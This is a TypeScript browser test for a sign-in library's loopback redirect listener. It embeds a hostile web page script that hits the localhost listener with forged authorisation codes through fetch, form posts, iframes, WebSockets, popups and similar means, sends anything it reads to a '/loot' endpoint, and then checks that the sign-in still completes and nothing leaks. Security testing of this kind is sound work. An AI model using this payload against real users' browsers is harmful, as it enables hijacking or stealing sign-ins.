/** A hostile page in the browser of the person who signs in: whatever a page may send to the loopback, the sign-in stays theirs. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { text } from 'node:stream/consumers'
import { type TestContext, test } from 'node:test'
import { MemoryLogSink } from '../fakes/memory-logger.js'
import { SCOPES, setStage } from '../flow/support.js'
import { endsAt, fillIn, heading, startChromium } from './support.js'

const stage = await setStage()
const openDesk = await startChromium()

/** Attacks the listener at `#<port>` over and over, by all the ways that a page has, and sends home what it gets to see. */
const ATTACK = `<!doctype html><title>Win a prize</title><body><script>
const origin = 'http://localhost:' + location.hash.slice(1)
const loot = what => void navigator.sendBeacon('/loot', what)
const guesses = ['code=stolen&state=x', 'code=stolen', 'error=access_denied&error_subcode=cancel&state=', '']
const places = guesses.flatMap(guess => ['/back?' + guess, '/signed-in', '/not-signed-in/', '/?' + guess])
const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
const popups = []
const add = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes)
  document.body.append(element)
  setTimeout(() => element.remove(), 2000)
  return element
}
const attacks = [
  url => fetch(url, { credentials: 'include' }).then(answer => answer.text()).then(text => loot('fetch ' + text), () => {}),
  url => fetch(url, { mode: 'no-cors', method: 'POST', headers: form, body: guesses[0] }).catch(() => {}),
  url => fetch(url, { method: 'PUT' }).then(() => loot('PUT'), () => {}),
  url => navigator.sendBeacon(url, new URLSearchParams(guesses[0])),
  url => add('img', { src: url, onload: () => loot('img') }),
  url => add('script', { src: url, onload: () => loot('script') }),
  url => add('link', { rel: 'stylesheet', href: url, onload: () => loot('style') }),
  url => add('object', { data: url, type: 'text/html' }),
  url => {
    const frame = add('iframe', { src: url })
    frame.onload = () => { try { loot('iframe ' + frame.contentDocument.body.innerText) } catch {} }
  },
  url => {
    add('iframe', { name: 'post' })
    const post = add('form', { action: url, method: 'POST', target: 'post' })
    for (const [name, value] of new URLSearchParams(guesses[0])) post.append(Object.assign(document.createElement('input'), { name, value }))
    post.submit()
  },
  url => Object.assign(new WebSocket(url.replace('http', 'ws')), { onopen: () => loot('WebSocket'), onmessage: ({ data }) => loot(data) }),
  url => Object.assign(new EventSource(url), { onopen() { loot('EventSource') }, onerror() { this.close() } }),
  url => {
    if (popups.length < 3) popups.push(open(url))
    const popup = popups[Math.floor(Math.random() * popups.length)]
    try { loot('popup ' + popup.document.body.innerText.trim()) } catch {}
    popup.location = url
  },
  url => {
    const post = add('form', { action: url, method: 'POST', target: 'posted' })
    for (const [name, value] of new URLSearchParams(guesses[0])) post.append(Object.assign(document.createElement('input'), { name, value }))
    post.submit()
  },
]
let round = 0
setInterval(() => {
  for (const attack of attacks) attack(origin + places[round % places.length])
  if (++round === places.length) document.title = 'All tried'
}, 60)
// Whoever has the last page first keeps the person from it.
setInterval(() => { if (popups.length > 0) popups[round % popups.length].location = origin + '/signed-in' }, 15)
</script>`

async function startHostileSite(t: TestContext) {
  const loot: string[] = []
  const server = createServer(async (request, response) => {
    if (request.url === '/loot') loot.push(await text(request))
    response.setHeader('Content-Type', 'text/html').end(request.url === '/' ? ATTACK : '')
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => server.close().closeAllConnections())
  const { port } = server.address() as { port: number }
  return { url: `http://127.0.0.1:${port}/`, loot }
}

test('neither ends nor steals nor spoils the sign-in, however often it tries', { timeout: 240_000 }, async t => {
  const logger = new MemoryLogSink('verbose')
  const { app } = stage.application(t, { logger, redirectUri: 'http://localhost/back' })
  const { page, picture } = await openDesk(t)
  // The hostile page keeps the browser busy, and a click waits for the page that it leads to.
  page.setDefaultTimeout(90_000)
  const site = await startHostileSite(t)
  const hostile = await page.context().newPage()
  let person: Promise<void> | undefined
  const signIn = async (url: URL) => {
    const { port } = new URL(url.searchParams.get('redirect_uri') ?? '')
    await hostile.goto(`${site.url}#${port}`)
    await hostile.waitForFunction("document.title === 'All tried'")
    await page.bringToFront()
    await page.goto(url.href)
    await fillIn(page, stage.user('alice'))
    await endsAt(page, '/signed-in')
    await heading(page, /You are signed in/)
    await picture('signed-in-beside-a-hostile-page')
  }
  const openBrowser = (url: URL) => {
    person = signIn(url)
    return person
  }
  const result = await app.acquireTokenInteractive({ scopes: SCOPES, systemBrowser: { openBrowser } })
  await person
  assert.equal(result.account.username, stage.user('alice').username)
  assert.equal(stage.tokenRequests().length, 1)

  const refused = Number(/refused (\d+) requests in all/.exec(logger.text)?.[1])
  t.diagnostic(`${refused} requests were refused; what the page got to see: ${JSON.stringify([...new Set(site.loot)])}`)
  assert.ok(refused > 100, `${refused} requests were refused`)
  // Popups are empty and its own until they have gone somewhere.
  assert.deepEqual(
    site.loot.filter(what => what !== 'popup' && what !== 'popup '),
    [],
  )
})
